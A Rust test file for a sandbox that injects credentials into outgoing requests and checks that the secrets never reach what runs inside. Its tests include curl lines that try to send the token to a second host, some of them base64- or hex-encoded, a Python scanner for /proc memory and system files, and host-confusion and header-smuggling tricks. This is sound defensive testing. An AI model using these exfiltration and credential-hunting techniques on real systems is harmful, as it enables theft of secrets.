//! Secrets that requests carry and that nothing inside may have.

use std::{
    io::{BufRead, BufReader, Read, Seek, SeekFrom},
    process::Stdio,
};

use bytes::Bytes;
use http::{HeaderValue, StatusCode, header};
use palisade_testkit::{Answer, Flaw, Recorded, TestAuthority, Upstream, answer, stream};

use crate::{
    tools,
    world::{Ran, World, end_of},
};

const REAL: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
const KEY: &str = "AIzaSyB-9tSrke72PouQMnMX-a7eZSW0jkFMBWY";

/// All that a request had, as text.
fn seen(request: &Recorded) -> String {
    let mut text = format!("{} {}\n", request.method, request.uri);
    for (name, value) in &request.headers {
        text.push_str(&format!("{name}: {}\n", value.to_str().unwrap_or_default()));
    }
    text.push_str(&String::from_utf8_lossy(&request.body));
    text
}

/// What a server makes of its clients' secrets.
fn reflect(request: &Recorded) -> Answer {
    let text = seen(request);
    let secret = request.header("authorization");
    match request.uri.path() {
        "/split" => {
            let (parts, received) = tokio::sync::mpsc::channel(8);
            tokio::spawn(async move {
                for part in text.into_bytes().chunks(3) {
                    let part = Bytes::copy_from_slice(part);
                    tokio::time::sleep(std::time::Duration::from_millis(1)).await;
                    if parts.send(Ok(part)).await.is_err() {
                        return;
                    }
                }
            });
            stream("text/plain", received)
        }
        // What ends as the secret begins, and then nothing for long.
        "/pausing" => {
            let (parts, received) = tokio::sync::mpsc::channel(8);
            tokio::spawn(async move {
                let token = secret.rsplit(' ').next().unwrap_or_default().to_owned();
                let (begun, rest) = token.split_at(2);
                for part in ["sing", "\n", begun, rest, "\n", "sing"] {
                    let part = Bytes::copy_from_slice(part.as_bytes());
                    if parts.send(Ok(part)).await.is_err() {
                        return;
                    }
                    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
                }
                tokio::time::sleep(std::time::Duration::from_secs(60)).await;
            });
            stream("text/plain", received)
        }
        "/redirect" => {
            let mut answer = answer(StatusCode::FOUND, "text/plain", "");
            let token = secret.rsplit(' ').next().unwrap_or_default();
            let to = HeaderValue::from_str(&format!("https://other.test/?token={token}"));
            answer.headers_mut().insert(header::LOCATION, to.unwrap());
            answer.headers_mut().insert("set-cookie", format!("t={token}").parse().unwrap());
            answer
        }
        "/error" => answer(StatusCode::INTERNAL_SERVER_ERROR, "text/html", text),
        "/compressed" => {
            let mut answer = answer(StatusCode::OK, "text/plain", text);
            answer.headers_mut().insert(header::CONTENT_ENCODING, HeaderValue::from_static("gzip"));
            answer
        }
        "/refused" => answer(StatusCode::UNAUTHORIZED, "text/plain", "who are you?"),
        _ => answer(StatusCode::OK, "text/plain", text),
    }
}

/// Two servers over TLS: `api.test`, which has a credential, and `other.test`, which has none.
struct Stage {
    api: Upstream,
    other: Upstream,
    world: World,
}

impl Stage {
    fn new() -> Option<Self> {
        Self::with("header: \"authorization: Bearer {secret}\"", "env: REAL_TOKEN")
    }

    fn with(place: &str, from: &str) -> Option<Self> {
        if !tools::have(&["curl"]) {
            return None;
        }
        let authority = TestAuthority::new().unwrap();
        let server = |name: &str| {
            let tls = authority.server(name, Flaw::None, &["h2", "http/1.1"]).unwrap();
            Upstream::start_secure(tls, |request: Recorded| async move { reflect(&request) })
        };
        let (api, other) = (server("api.test").unwrap(), server("other.test").unwrap());
        let (one, two) = (api.address().port(), other.address().port());
        let world = World::new(&format!(
            "network:
  hosts: {{api.test: [127.0.0.1], other.test: [127.0.0.1]}}
  rules:
    - {{name: api, hosts: [api.test], ports: [{one}], addresses: [127.0.0.1], credential: token}}
    - {{name: other, hosts: [other.test], ports: [{two}], addresses: [127.0.0.1], tls: inspect}}
credentials:
  token: {{from: {{{from}}}, {place}, expose: API_TOKEN}}
"
        ))?;
        world.write("store.pem", &authority.pem());
        let store = world.at("store.pem");
        let world = world
            .with_variable("SSL_CERT_FILE", store.to_str().unwrap())
            .with_variable("REAL_TOKEN", REAL)
            .with_variable("REAL_KEY", KEY);
        Some(Self { api, other, world })
    }

    /// A shell script with the two servers' URLs in `$API` and `$OTHER`.
    fn script(&self, script: &str) -> String {
        format!(
            "API=https://api.test:{} OTHER=https://other.test:{}\n\
             curl() {{ command curl --silent --show-error --max-time 60 \"$@\"; }}\n{script}",
            self.api.address().port(),
            self.other.address().port()
        )
    }

    fn inside(&self, script: &str) -> Ran {
        self.world.inside_sh(&self.script(script))
    }

    /// What the only request had that came to `api.test` since the last time.
    fn last(&self) -> Recorded {
        self.api.requests().last().cloned().unwrap()
    }

    /// The secret is nowhere but in the requests that were to have it.
    fn assert_kept(&self, ran: &Ran, secret: &str) {
        assert!(!ran.out.contains(secret) && !ran.err.contains(secret), "{ran}");
        assert!(!self.other.requests().iter().any(|request| request.contains(secret)));
        let state = self.world.outside(&["grep", "-rlsa", secret, "../state"]);
        assert_eq!(state.out, "", "the secret is in the operator's state");
    }

    fn events(&self, kind: &str) -> Vec<serde_json::Value> {
        let mut events = self.world.events();
        events.retain(|event| event["kind"] == kind);
        events
    }
}

/// Of what could begin a secret, two characters go on when nothing follows. The rest does not.
#[test]
fn has_the_secret_sent_back_with_pauses() {
    let Some(stage) = Stage::new() else { return };
    let ran = stage.inside("echo $API_TOKEN; curl -N --max-time 8 $API/pausing 2>/dev/null");
    let mut lines = ran.out.lines();
    let placeholder = lines.next().unwrap();
    // The last line came although the stream has not ended.
    let expected = ["sing".to_owned(), format!("gh{}", &placeholder[2..]), "sing".to_owned()];
    assert_eq!(lines.map(str::to_owned).collect::<Vec<_>>(), expected, "{ran}");
    stage.assert_kept(&ran, REAL);
    assert_eq!(stage.events("secret_in_answer").len(), 1);
}

#[test]
fn uses_a_credential_that_is_not_inside() {
    let Some(stage) = Stage::new() else { return };
    let ran = stage.inside("echo $API_TOKEN; curl -H \"Authorization: Bearer $API_TOKEN\" $API/x");
    let (placeholder, answer) = ran.good().split_once('\n').unwrap();
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == REAL.len(), "{placeholder}");
    assert_eq!(stage.last().header("authorization"), format!("Bearer {REAL}"));
    assert!(!stage.last().contains(placeholder));
    assert!(answer.contains(&format!("authorization: Bearer {placeholder}")), "{ran}");
    stage.assert_kept(&ran, REAL);
    let used = stage.events("credential");
    assert_eq!(used[0]["rule"], "network.rules[api]");
    assert_eq!(used[0]["detail"]["credential"], "token");
    assert_eq!(stage.events("secret_in_answer").len(), 1);
    stage.world.assert_denials(&[]);
}

#[test]
fn a_client_that_sends_none_or_another_gets_the_credential() {
    let Some(stage) = Stage::new() else { return };
    for (arguments, expected) in [
        ("$API/none", format!("Bearer {REAL}")),
        ("-H 'Authorization: Bearer of-the-attacker' $API/other", format!("Bearer {REAL}")),
        ("-H \"Authorization: token $API_TOKEN\" $API/token", format!("token {REAL}")),
        ("--http1.1 $API/h1", format!("Bearer {REAL}")),
    ] {
        let ran = stage.inside(&format!("curl {arguments}"));
        assert_eq!(ran.code, Some(0), "{ran}");
        assert_eq!(stage.last().header("authorization"), expected, "{arguments}");
        stage.assert_kept(&ran, REAL);
    }
    // As git does it, and whatever takes a user's name with a password.
    let ran = stage.inside("curl -u \"x-access-token:$API_TOKEN\" $API/basic");
    let sent = "Basic eC1hY2Nlc3MtdG9rZW46Z2hwXzE2QzdlNDJGMjkyYzY5MTJFNzcxMGM4MzgzNDdBZTE3OEI0YQ==";
    assert_eq!(stage.last().header("authorization"), sent);
    stage.assert_kept(&ran, REAL);
    assert!(!ran.out.contains(&sent[30..]), "{ran}");
}

#[test]
fn a_key_in_a_query_is_in_no_record() {
    let Some(stage) = Stage::with("query: \"key={secret}\"", "env: REAL_KEY") else { return };
    let ran = stage.inside("curl \"$API/maps?q=1&key=$API_TOKEN\"; curl $API/maps");
    let asked: Vec<_> = stage.api.requests().iter().map(|it| it.uri.to_string()).collect();
    // HTTP/2 has the whole URL.
    assert!(asked[0].ends_with(&format!("/maps?q=1&key={KEY}")), "{asked:?}");
    assert!(asked[1].ends_with(&format!("/maps?key={KEY}")), "{asked:?}");
    stage.assert_kept(&ran, KEY);
}

#[test]
fn sends_the_placeholder_to_another_host() {
    let Some(stage) = Stage::new() else { return };
    let ran = stage.inside("curl $OTHER/works -d fine");
    assert!(ran.good().ends_with("fine"), "{ran}");
    let before = stage.other.requests().len();
    for arguments in [
        "-H \"Authorization: Bearer $API_TOKEN\" $OTHER/",
        "-u \"user:$API_TOKEN\" $OTHER/",
        "-H \"Cookie: a=$API_TOKEN\" $OTHER/",
        "-H \"$API_TOKEN: 1\" $OTHER/",
        "$OTHER/$API_TOKEN",
        "\"$OTHER/?a=1&b=$API_TOKEN\"",
        "\"$OTHER/?b=$(echo $API_TOKEN | sed s/g/%67/)\"",
        "-X $API_TOKEN $OTHER/",
        "-d \"token=$API_TOKEN\" $OTHER/",
        "-d \"$(printf %s \"a$API_TOKEN\" | base64 -w0)\" $OTHER/",
        "-d \"$(printf %s $API_TOKEN | od -An -tx1 | tr -d ' \\n')\" $OTHER/",
    ] {
        let ran = stage.inside(&format!("curl {arguments}"));
        assert!(ran.out.contains("is no host of that credential"), "{arguments}: {ran}");
        stage.assert_kept(&ran, REAL);
    }
    assert_eq!(stage.other.requests().len(), before);
    let denied = stage.world.events();
    let denied = denied.iter().filter(|event| event["decision"] == "deny").count();
    assert!(denied >= 11, "{denied}");
    stage.world.verify();
}

/// In a large body the placeholder's beginning may have left before it is whole. It never comes whole.
#[test]
fn sends_the_placeholder_to_another_host_in_a_slow_body() {
    let Some(stage) = Stage::new() else { return };
    let program = "\
import http.client, os, ssl, sys, time
token = os.environ['API_TOKEN']
connection = http.client.HTTPSConnection('other.test', int(sys.argv[1]), timeout=60)
def body():
    yield b'x' * 100000
    for letter in token:
        yield letter.encode()
        time.sleep(0.002)
    yield b'y' * 100000
try:
    connection.request('POST', '/', body(), {'Transfer-Encoding': 'chunked'}, encode_chunked=True)
    print(connection.getresponse().read().decode())
except OSError as error:
    print(type(error).__name__)
";
    let port = stage.other.address().port().to_string();
    let ran = stage.world.inside_python_with(program, &[&port]);
    let ended = ["no host of that credential", "Error", "Disconnected"];
    assert!(ended.iter().any(|end| ran.out.contains(end)), "{ran}");
    assert!(stage.other.requests().is_empty());
    let told = stage.events("placeholder");
    assert_eq!((told.len(), &told[0]["decision"]), (1, &"deny".into()), "{told:?}");
    stage.world.verify();
}

#[test]
fn has_the_server_give_the_secret_back() {
    let Some(stage) = Stage::new() else { return };
    // Without Palisade it is had for the asking.
    let outside = stage.script(&format!(
        "curl -ki --resolve api.test:{0}:127.0.0.1 -H 'Authorization: Bearer {REAL}' $API/split",
        stage.api.address().port()
    ));
    let outside = stage.world.outside_sh(&outside);
    assert!(outside.out.contains(REAL), "{outside}");
    for (arguments, says) in [
        ("$API/split", "authorization: Bearer ghp_"),
        ("--http1.1 $API/split", "authorization: Bearer ghp_"),
        ("-i $API/redirect", "token=ghp_"),
        ("--http1.1 -i $API/redirect", "t=ghp_"),
        ("-i $API/error", "500"),
        ("-i -H 'Accept-Encoding: gzip' $API/compressed", "502"),
        ("-i --compressed $API/compressed", "502"),
        ("-r 0-60 $API/range", "authorization: Bearer ghp_"),
        ("-u \"user:$API_TOKEN\" $API/split", "authorization: Basic "),
    ] {
        let ran = stage.inside(&format!("curl {arguments}"));
        assert!(ran.out.to_lowercase().contains(&says.to_lowercase()), "{arguments}: {ran}");
        stage.assert_kept(&ran, REAL);
        assert!(stage.last().contains(REAL) || arguments.starts_with("-u"), "{arguments}");
        // In base64 too.
        assert!(!ran.out.contains("Z2hwXzE2QzdlNDJG") && !ran.out.contains("16C7e42F"), "{ran}");
    }
    // A redirect that is followed carries no secret to where it leads.
    let ran = stage.inside("curl -L $API/redirect");
    stage.assert_kept(&ran, REAL);
    stage.world.verify();
}

/// The secret goes where the connection goes; no name that a client writes leads it elsewhere.
#[test]
fn confuses_which_host_it_speaks_to() {
    let Some(stage) = Stage::new() else { return };
    let (api, other) = (stage.api.address().port(), stage.other.address().port());
    for arguments in [
        format!("-H 'Host: api.test:{api}' $OTHER/"),
        "-H 'Host: other.test' $API/".to_owned(),
        format!("--connect-to api.test:{api}:other.test:{other} $API/"),
        format!("--connect-to other.test:{other}:api.test:{api} $OTHER/"),
        format!("--http1.1 --request-target https://api.test:{api}/ $OTHER/"),
        "--http1.1 -H 'X-Forwarded-Host: api.test' -H 'Forwarded: host=api.test' $OTHER/"
            .to_owned(),
    ] {
        let ran = stage.inside(&format!("curl {arguments}"));
        stage.assert_kept(&ran, REAL);
        assert!(!stage.other.requests().iter().any(|it| it.headers.contains_key("authorization")));
    }
    // A connection is one host's: what is asked for in it second is decided again.
    let program = "\
import os, socket, ssl, sys
one, two = sys.argv[1:]
context = ssl.create_default_context()
stream = context.wrap_socket(socket.create_connection(('other.test', int(two)), 20), server_hostname='other.test')
stream.sendall(f'GET / HTTP/1.1\\r\\nHost: other.test:{two}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: api.test:{one}\\r\\n\\r\\n'.encode())
got = b''
while True:
    try: part = stream.recv(65536)
    except OSError: break
    if not part or b'403' in got: break
    got += part
    if got.count(b'HTTP/1.1 ') == 2: break
print(got.decode())
";
    let ran = stage.world.inside_python_with(program, &[&api.to_string(), &other.to_string()]);
    assert!(ran.out.contains("403"), "{ran}");
    stage.assert_kept(&ran, REAL);
    stage.world.verify();
}

/// Memory of everything inside, its files, and what the kernel tells of its processes.
#[test]
fn looks_for_the_secret_in_memory_and_files() {
    let Some(stage) = Stage::new() else { return };
    let search = "\
import os, re, sys
# Not as it is: this program would find itself.
wanted = bytes.fromhex(sys.argv[1])
found = []
def look(path, data):
    if wanted in data: found.append(path)
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline', 'maps', 'stat'):
        try: look(f'/proc/{pid}/{name}', open(f'/proc/{pid}/{name}', 'rb').read())
        except OSError: pass
    try:
        memory = open(f'/proc/{pid}/mem', 'rb', 0)
        for line in open(f'/proc/{pid}/maps'):
            start, end = (int(part, 16) for part in line.split()[0].split('-'))
            if int(pid) == os.getpid(): continue
            try:
                memory.seek(start)
                look(f'memory of {pid}', memory.read(min(end - start, 1 << 26)))
            except (OSError, ValueError, OverflowError): pass
    except OSError: pass
for top in ('/run', '/etc', '/tmp', '/var', '/dev/shm', os.environ['HOME'], '.'):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path): look(path, open(path, 'rb').read(1 << 24))
            except OSError: pass
print(found or 'nothing')
";
    let hex: String = REAL.bytes().map(|byte| format!("{byte:02x}")).collect();
    // It finds what is there.
    stage.world.write("work/decoy.txt", REAL);
    let ran = stage.world.inside_python_with(search, &[&hex]);
    assert!(ran.good().contains("decoy.txt") && !ran.out.contains("memory"), "{ran}");
    std::fs::remove_file(stage.world.at("work/decoy.txt")).unwrap();
    let script = format!("curl $API/used >/dev/null; exec python3 -c \"$0\" {hex}");
    let script = stage.script(&script);
    let ran = stage.world.inside(&["/bin/sh", "-c", &script, search]);
    assert_eq!(ran.good(), "nothing", "{ran}");
    assert!(stage.last().contains(REAL));
}

/// The same from outside, where no namespace is in the way: only the supervisor has it.
#[test]
fn no_process_inside_has_the_secret_in_its_memory() {
    if !rustix::process::geteuid().is_root() {
        println!("skipped: only root may read the memory of init");
        return;
    }
    let Some(stage) = Stage::new() else { return };
    let script = stage.script("curl $API/used >/dev/null; sleep 600 & echo done; sleep 600");
    let mut child = stage
        .world
        .run(&["/bin/sh", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
    let supervisor = child.id();
    let inside = descendants(supervisor);
    let has = |pid: u32| memory_has(pid, REAL.as_bytes());
    let found: Vec<u32> = inside.iter().copied().filter(|pid| has(*pid)).collect();
    let in_supervisor = has(supervisor);
    let shown = |pid: &u32| {
        let read = |name: &str| std::fs::read_to_string(format!("/proc/{pid}/{name}"));
        let command = read("cmdline").unwrap_or_default().replace('\0', " ");
        format!("{pid} {} {command}", read("comm").unwrap_or_default().trim())
    };
    let found: Vec<String> = found.iter().map(shown).collect();
    child.kill().unwrap();
    let ran = end_of(child);
    assert_eq!(line, "done\n", "{ran}");
    assert!(inside.len() >= 3, "{inside:?}");
    assert!(in_supervisor, "the search finds nothing at all");
    assert!(found.is_empty(), "{found:?}");
}

fn descendants(of: u32) -> Vec<u32> {
    let mut all = Vec::new();
    let mut waiting = vec![of];
    while let Some(pid) = waiting.pop() {
        let path = format!("/proc/{pid}/task/{pid}/children");
        let text = std::fs::read_to_string(path).unwrap_or_default();
        let children: Vec<u32> = text.split_whitespace().map(|it| it.parse().unwrap()).collect();
        all.extend(&children);
        waiting.extend(children);
    }
    all
}

fn memory_has(pid: u32, wanted: &[u8]) -> bool {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let mut memory = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    let ranges = maps.lines().filter(|line| line.contains(" rw")).filter_map(|line| {
        let (from, to) = line.split(' ').next()?.split_once('-')?;
        Some((u64::from_str_radix(from, 16).ok()?, u64::from_str_radix(to, 16).ok()?))
    });
    ranges.into_iter().any(|(from, to)| {
        let mut bytes = vec![0; usize::try_from(to - from).unwrap().min(1 << 27)];
        let read = memory.seek(SeekFrom::Start(from)).and_then(|_| memory.read(&mut bytes));
        read.is_ok_and(|read| bytes[..read].windows(wanted.len()).any(|part| part == wanted))
    })
}

#[test]
fn a_secret_that_is_exchanged_is_read_again_when_the_old_one_is_refused() {
    let Some(stage) = Stage::with("header: \"authorization: Bearer {secret}\"", "file: ../token")
    else {
        return;
    };
    let keep = |text: &str| {
        use std::os::unix::fs::PermissionsExt;
        stage.world.write("token", text);
        let path = stage.world.at("token");
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
    };
    keep("old-secret-of-the-operator\n");
    // The operator exchanges it while the agent runs.
    let script = stage.script(
        "curl $API/1 >/dev/null; echo ready; until [ -e exchanged ]; do sleep 0.05; done\n\
         curl $API/2 >/dev/null; curl -o /dev/null $API/refused; curl $API/3",
    );
    let mut child = stage
        .world
        .run(&["/bin/sh", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
    keep("new-secret-which-is-longer-than-the-old-one\n");
    stage.world.write("work/exchanged", "");
    let ran = end_of(child);
    let sent: Vec<_> = stage
        .api
        .requests()
        .iter()
        .map(|request| request.header("authorization")["Bearer ".len()..][..3].to_owned())
        .collect();
    assert_eq!(sent, ["old", "old", "old", "new"], "{ran}");
    for secret in ["old-secret-of-the-operator", "new-secret-which-is-longer-than-the-old-one"] {
        stage.assert_kept(&ran, secret);
    }
}

#[test]
fn a_secret_that_is_not_there_is_told_to_who_needs_it() {
    let Some(stage) =
        Stage::with("header: \"authorization: Bearer {secret}\"", "env: NOT_SET_ANYWHERE")
    else {
        return;
    };
    let ran = stage.inside("curl $OTHER/works >/dev/null && curl $API/");
    assert!(ran.good().contains("set the variable NOT_SET_ANYWHERE"), "{ran}");
    assert!(stage.api.requests().is_empty());
}

#[test]
fn tokens_are_had_outside_and_exchanged_before_they_end() {
    let tokens = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let server = Upstream::start(move |request: Recorded| {
        let number = tokens.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        async move {
            assert_eq!(request.body, "grant_type=client_credentials&scope=read");
            let text = format!(
                "{{\"access_token\": \"access-token-number-{number}\", \"expires_in\": {}}}",
                if number == 0 { 0 } else { 3600 }
            );
            answer(StatusCode::OK, "application/json", text)
        }
    })
    .unwrap();
    let from = format!(
        "oauth2: {{token_url: \"{}/token\", client_id: me, client_secret: {{env: REAL_TOKEN}}, scope: read}}",
        server.url()
    );
    let Some(stage) = Stage::with("header: \"authorization: Bearer {secret}\"", &from) else {
        return;
    };
    let ran = stage.inside("echo $API_TOKEN; curl $API/1; curl $API/2");
    let sent: Vec<_> =
        stage.api.requests().iter().map(|request| request.header("authorization")).collect();
    // The first had ended when it came.
    assert_eq!(sent, ["Bearer access-token-number-1", "Bearer access-token-number-1"], "{ran}");
    assert_eq!(server.requests().len(), 2);
    assert!(server.requests()[0].header("authorization").starts_with("Basic "));
    for secret in ["access-token-number-0", "access-token-number-1", REAL] {
        stage.assert_kept(&ran, secret);
    }
}

/// In the clear too, where the rule names the address.
#[test]
fn a_private_server_without_tls_gets_the_secret_and_the_client_does_not() {
    let server = Upstream::start(|request: Recorded| async move { reflect(&request) }).unwrap();
    let port = server.address().port();
    let Some(world) = World::new(&format!(
        "network:
  hosts: {{plain.test: [127.0.0.1]}}
  rules: [{{hosts: [plain.test], ports: [{port}], addresses: [127.0.0.0/8], credential: token}}]
credentials: {{token: {{from: {{env: REAL_TOKEN}}, header: \"x-token: {{secret}}\", expose: API_TOKEN}}}}
"
    )) else {
        return;
    };
    let world = world.with_variable("REAL_TOKEN", REAL);
    let ran = world
        .inside_sh(&format!("curl -s http://plain.test:{port}/split; echo; printenv API_TOKEN"));
    let placeholder = ran.good().lines().last().unwrap();
    assert_eq!(server.requests()[0].header("x-token"), REAL);
    assert!(ran.out.contains(&format!("x-token: {placeholder}")), "{ran}");
    assert!(!ran.out.contains(REAL), "{ran}");
    world.assert_denials(&[]);
}

/// A rule that looks at requests carries its credential all the same, and capital letters hide nothing.
#[test]
fn has_the_secret_given_back_in_other_letters() {
    let server = Upstream::start(|request: Recorded| async move {
        let token = request.header("x-token").to_owned();
        answer(StatusCode::OK, "text/plain", token.to_ascii_uppercase() + &token.to_lowercase())
    })
    .unwrap();
    let port = server.address().port();
    let Some(world) = World::new(&format!(
        "network:
  hosts: {{plain.test: [127.0.0.1]}}
  rules:
    - {{hosts: [plain.test], ports: [{port}], addresses: [127.0.0.1], credential: token,
       http: [{{deny: {{paths: [/no]}}}}, {{allow: {{methods: [GET]}}}}]}}
credentials: {{token: {{from: {{env: REAL_TOKEN}}, header: \"x-token: {{secret}}\", expose: API_TOKEN}}}}
"
    )) else {
        return;
    };
    let hex = "0f4c2b9a71e3d5886a1b0c9d8e7f6a5b";
    let world = world.with_variable("REAL_TOKEN", hex);
    let url = format!("http://plain.test:{port}/");
    let ran = world.inside_sh(&format!("curl -s -H 'x-token: mine' {url}; curl -s {url}"));
    let sent: Vec<_> = server.requests().iter().map(|it| it.header("x-token").to_owned()).collect();
    assert_eq!(sent, [hex, hex], "{ran}");
    assert!(!ran.good().to_lowercase().contains(hex), "{ran}");
    let used = world.events().into_iter().find(|event| event["kind"] == "credential").unwrap();
    assert_eq!(used["rule"], "network.rules[0].http[1]");
}

#[test]
fn requests_to_aws_are_signed_outside() {
    const SECRET_KEY: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
    let aws = "aws: {access_key: AKIAIOSFODNN7EXAMPLE}";
    let Some(stage) = Stage::with(aws, "env: SECRET_KEY") else { return };
    let Stage { api, other, world } = stage;
    let stage = Stage { api, other, world: world.with_variable("SECRET_KEY", SECRET_KEY) };
    let curl =
        "curl --aws-sigv4 aws:amz:us-east-1:execute-api --user AKIAIOSFODNN7EXAMPLE:$API_TOKEN";
    let ran = stage.inside(&format!(
        "{curl} \"$API/a%20path/x?b=2&a=1\"; {curl} -d '{{\"x\": 1}}' -H 'Content-Type: application/json' $API/post; \
         curl $API/unsigned"
    ));
    assert!(ran.out.contains("sign it with the placeholder"), "{ran}");
    let requests = stage.api.requests();
    assert_eq!(requests.len(), 2, "{ran}");
    // What a server that knows the key makes of it.
    let verify = "\
import hashlib, hmac, sys, urllib.parse
secret, method, target, authority, authorization, date, body = sys.argv[1:8]
fields = dict(part.strip().split('=', 1) for part in authorization.split(' ', 1)[1].split(','))
key, *scope = fields['Credential'].split('/')
headers = dict(line.split(': ', 1) for line in sys.argv[8:])
headers['host'] = authority
path, _, query = target.partition('?')
query = '&'.join(sorted(query.split('&'))) if query else ''
lines = ''.join(f'{name}:{headers[name].strip()}\\n' for name in fields['SignedHeaders'].split(';'))
canonical = '\\n'.join([method, urllib.parse.quote(path), query, lines, fields['SignedHeaders'], hashlib.sha256(body.encode()).hexdigest()])
signed = '\\n'.join(['AWS4-HMAC-SHA256', date, '/'.join(scope), hashlib.sha256(canonical.encode()).hexdigest()])
step = ('AWS4' + secret).encode()
for part in scope: step = hmac.new(step, part.encode(), 'sha256').digest()
print(key, hmac.new(step, signed.encode(), 'sha256').hexdigest() == fields['Signature'])
";
    for request in &requests {
        let target = request.uri.path_and_query().unwrap().to_string();
        let authority = format!("api.test:{}", stage.api.address().port());
        let (authorization, date) = (request.header("authorization"), request.header("x-amz-date"));
        let body = String::from_utf8(request.body.to_vec()).unwrap();
        let mut argv: Vec<String> =
            ["/usr/bin/python3", "-c", verify, SECRET_KEY, request.method.as_str(), &target]
                .map(str::to_owned)
                .to_vec();
        argv.extend([authority, authorization, date, body]);
        argv.extend(
            request.headers.keys().map(|it| format!("{it}: {}", request.header(it.as_str()))),
        );
        let verified = stage.world.outside(&argv);
        assert_eq!(verified.good(), "AKIAIOSFODNN7EXAMPLE True", "{request:?}");
    }
    stage.assert_kept(&ran, SECRET_KEY);
}

/// A field that is another one to HTTP and the credential's own to what turns headers into variables.
#[test]
fn works_under_another_account_by_a_twin_of_the_header() {
    let Some(stage) = Stage::with("header: \"x-api-key: {secret}\"", "env: REAL_TOKEN") else {
        return;
    };
    for twin in ["x_api_key", "X_API-Key", "x-api_key", "X.Api.Key", "x~api|key", "x-api*key"] {
        let ran = stage.inside(&format!("curl -H '{twin}: another-account' $API/x"));
        ran.good();
        let request = stage.last();
        assert_eq!(request.header("x-api-key"), REAL, "{twin}");
        assert!(!request.contains("another-account"), "{twin}: {request:?}");
        stage.assert_kept(&ran, REAL);
    }
}

/// Many servers take the second word of the header, or what stands before the first comma or colon.
#[test]
fn works_under_another_account_beside_the_placeholder() {
    let Some(stage) = Stage::new() else { return };
    let plain = |text: &str| format!("-H \"Authorization: {text}\"");
    for arguments in [
        plain("Bearer another-account $API_TOKEN"),
        plain("Bearer $API_TOKEN another-account"),
        plain("Bearer another-account, Bearer $API_TOKEN"),
        plain("Bearer $API_TOKEN,another-account"),
        plain("Bearer another-account;$API_TOKEN"),
        plain("another-account$API_TOKEN"),
        plain("Token token=another-account, x=$API_TOKEN"),
        "-u \"user:another-account:$API_TOKEN\"".to_owned(),
        "-u \"another-account-with-a-key-of-some-length:$API_TOKEN\"".to_owned(),
        "-u \"$API_TOKEN:another-account-with-a-key\"".to_owned(),
        "-u \"$API_TOKEN$API_TOKEN:another-account-with-a-key\"".to_owned(),
    ] {
        let ran = stage.inside(&format!("curl {arguments} $API/x"));
        ran.good();
        assert_eq!(stage.last().header("authorization"), format!("Bearer {REAL}"), "{arguments}");
        stage.assert_kept(&ran, REAL);
    }
}

#[test]
fn works_under_another_account_by_a_twin_of_the_field() {
    let Some(stage) = Stage::with("query: \"key={secret}\"", "env: REAL_KEY") else { return };
    for query in [
        "KEY=another-account",
        "%6bey=another-account",
        "%4BEY=another-account",
        "key[]=another-account",
        "key%5B0%5D=another-account",
        "+key=another-account",
        "%20key=another-account&key=$API_TOKEN",
        "key%00=another-account",
    ] {
        let ran = stage.inside(&format!("curl -g \"$API/maps?a=1&{query}\""));
        ran.good();
        let asked = stage.last().uri.to_string();
        assert!(asked.ends_with(&format!("/maps?a=1&key={KEY}")), "{query}: {asked}");
        stage.assert_kept(&ran, KEY);
    }
    // What is one field to some is two to others: it goes nowhere.
    let before = stage.api.requests().len();
    for query in ["a=1;key=another-account", "key=$API_TOKEN;key=another-account", "a;KEY=x"] {
        let ran = stage.inside(&format!("curl -g \"$API/maps?{query}\""));
        assert!(ran.good().contains("denied by palisade"), "{query}: {ran}");
        stage.assert_kept(&ran, KEY);
    }
    assert_eq!(stage.api.requests().len(), before);
    stage.inside("curl -g \"$API/maps?a=1;b=2\"").good();
    assert!(stage.last().uri.to_string().contains("a=1;b=2"));
}

#[test]
fn works_under_another_account_by_a_twin_of_the_cookie() {
    let Some(stage) = Stage::with("header: \"cookie: my_session={secret}\"", "env: REAL_TOKEN")
    else {
        return;
    };
    for cookie in [
        "MY_SESSION=another-account",
        "my.session=another-account",
        "%6dy_session=another-account",
        "my_session[0]=another-account",
        "a=b,my_session=another-account",
        "\\\"my_session\\\"=another-account",
    ] {
        let ran = stage.inside(&format!("curl -H \"Cookie: theme=dark; {cookie}\" $API/x"));
        ran.good();
        let sent = stage.last().header("cookie").to_owned();
        assert!(sent.ends_with(&format!("my_session={REAL}")), "{cookie}: {sent}");
        assert!(sent.starts_with("theme=dark;"), "{cookie}: {sent}");
        assert!(!sent.contains("another-account"), "{cookie}: {sent}");
        stage.assert_kept(&ran, REAL);
    }
}

/// A gateway that has headers as variables gives its program what the client was to leave out.
#[test]
fn asks_for_another_form_of_the_answer_by_a_twin() {
    let Some(stage) = Stage::new() else { return };
    for twin in [
        "accept_charset",
        "A-IM",
        "Accept.Charset",
        "sec_websocket_extensions",
        "x.ms.range",
        "Accept_Encoding",
    ] {
        let ran = stage.inside(&format!("curl -H '{twin}: twin-of-a-header' $API/x"));
        assert!(!ran.good().contains("twin-of-a-header"), "{twin}: {ran}");
        assert!(!stage.last().contains("twin-of-a-header"), "{twin}");
    }
}
